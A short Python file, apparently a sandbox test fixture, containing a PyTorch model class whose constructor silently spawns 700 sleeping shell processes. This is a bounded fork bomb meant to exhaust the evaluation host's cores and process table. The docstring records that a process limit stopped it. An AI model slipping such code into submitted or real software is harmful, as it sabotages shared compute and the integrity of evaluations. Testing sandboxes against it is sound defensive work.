"""Attack: a shell that starts 700 processes (a fork bomb's shape, bounded: each only
sleeps), to take the host's cores and process table for as long as the candidate lives.
Ended at the process limit (sandbox.MAX_PROCESSES); it ran to its phase limit before."""

import subprocess

import torch.nn as nn
import torch.nn.functional as F


class ModelNew(nn.Module):
    def __init__(self, dim, hidden):
        super().__init__()
        self.fc1, self.fc2 = nn.Linear(dim, hidden), nn.Linear(hidden, dim)
        subprocess.run(["/bin/sh", "-c", "for i in $(seq 700); do sleep 300 & done; wait"])

    def forward(self, x):
        return self.fc2(F.gelu(self.fc1(x), approximate="tanh"))
